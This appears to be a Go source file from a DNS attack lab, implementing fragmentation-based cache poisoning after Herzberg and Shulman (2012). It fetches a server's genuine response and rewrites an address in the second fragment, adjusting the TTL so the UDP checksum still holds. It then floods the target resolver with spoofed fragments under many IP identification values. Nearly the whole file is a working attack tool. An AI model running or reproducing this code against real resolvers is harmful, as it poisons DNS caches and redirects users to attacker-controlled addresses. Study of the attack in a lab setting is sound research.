//go:build lab

package inject

import (
	"bytes"
	"cmp"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/miekg/dns"
)

// A FragmentConfig says whose response gets a forged end. All addresses are IPv4.
type FragmentConfig struct {
	Server netip.Addr // the source of the response
	Client netip.Addr // that joins the fragments: a resolver or a stub
	Name   string
	Old    netip.Addr // an address in the end of the genuine response
	New    netip.Addr // what it becomes
	MTU    int        // of the path from the server, in bytes; 0 is 1,500

	FirstID uint16 // the first IP identification that is tried
	IDs     int    // how many are tried, one after the other; 0 is 4,096
	Rate    int    // packets per second at most; 0 is 100,000
	// Ask makes the client ask at the end, if it is a resolver.
	Ask bool
}

// Fragments asks the server itself, changes an address in the second fragment of
// its response so that the UDP checksum stays true, and plants that fragment with
// the client, for many IP identifications: the genuine first fragment is joined
// with the forged second (Herzberg and Shulman, "Fragmentation Considered
// Poisonous", 2012). It is an error if the response has no such fragment. It ends
// after all or after a minute.
func Fragments(within Within, c FragmentConfig) (*Injector, error) {
	response, err := c.genuine(within)
	if err != nil {
		return nil, fmt.Errorf("learn the genuine response: %w", err)
	}
	offset := (cmp.Or(c.MTU, 1500) - ipHeader) / 8 * 8 // RFC 791 §3.2: in units of 8 bytes
	if offset < udpHeader || offset >= udpHeader+len(response) {
		return nil, fmt.Errorf("response of %d bytes is not fragmented", len(response))
	}
	tail := response[offset-udpHeader:]
	if err := replace(tail, c.Old, c.New); err != nil {
		return nil, err
	}
	return attack(within, c.Client, func(ctx context.Context, i *Injector, r *router, conn *dns.Conn) error {
		p := newPace(cmp.Or(c.Rate, 100_000))
		for n := range cmp.Or(c.IDs, 4096) {
			if !p.next(ctx) {
				return ctx.Err()
			}
			packet, err := serialize(&layers.IPv4{
				Version: 4, TTL: 57, Id: c.FirstID + uint16(n), FragOffset: uint16(offset / 8), Protocol: layers.IPProtocolUDP,
				SrcIP: c.Server.AsSlice(), DstIP: c.Client.AsSlice(),
			}, gopacket.Payload(tail))
			if err != nil {
				return err
			}
			if err := i.note(r.send(packet, c.Client)); err != nil {
				return err
			}
		}
		if !c.Ask {
			return nil
		}
		return conn.WriteMsg(new(dns.Msg).SetQuestion(dns.Fqdn(c.Name), dns.TypeA))
	})
}

const (
	ipHeader  = 20 // without options
	udpHeader = 8
)

// genuine is the server's response to a query as a resolver's: with DO, and room
// for 4,096 bytes.
func (c FragmentConfig) genuine(within Within) ([]byte, error) {
	conn, err := dial(context.Background(), within, "udp", netip.AddrPortFrom(c.Server, 53))
	if err != nil {
		return nil, err
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(patience)); err != nil {
		return nil, err
	}
	d := &dns.Conn{Conn: conn, UDPSize: 4096}
	q := new(dns.Msg).SetQuestion(dns.Fqdn(c.Name), dns.TypeA).SetEdns0(4096, true)
	q.RecursionDesired = false
	if err := d.WriteMsg(q); err != nil {
		return nil, err
	}
	return d.ReadMsgHeader(nil)
}

// replace changes an address in part of a datagram, and the TTL of its record so
// that the sum of the part stays.
func replace(part []byte, from, to netip.Addr) error {
	const ttlToData = 6 // TTL, RDLENGTH (RFC 1035 §3.2.1)
	at := bytes.Index(part, from.AsSlice())
	if at < ttlToData {
		return fmt.Errorf("no record of %v in the second fragment", from)
	}
	if from.BitLen() != to.BitLen() {
		return errors.New("addresses of two families")
	}
	// Two bytes that the checksum adds as one number: they begin at an even offset.
	free := part[at-4:][:2]
	if at%2 == 1 {
		free = part[at-5:][:2]
	}
	before := sum(part)
	copy(part[at:], to.AsSlice())
	free[0], free[1] = 0, 0
	binary.BigEndian.PutUint16(free, uint16((before+0xffff-sum(part))%0xffff))
	return nil
}

// sum is the sum of all pairs of bytes, modulo 0xffff (RFC 1071).
func sum(b []byte) (s uint32) {
	for n, x := range b {
		s += uint32(x) << (8 * (1 - n%2))
	}
	return s % 0xffff
}
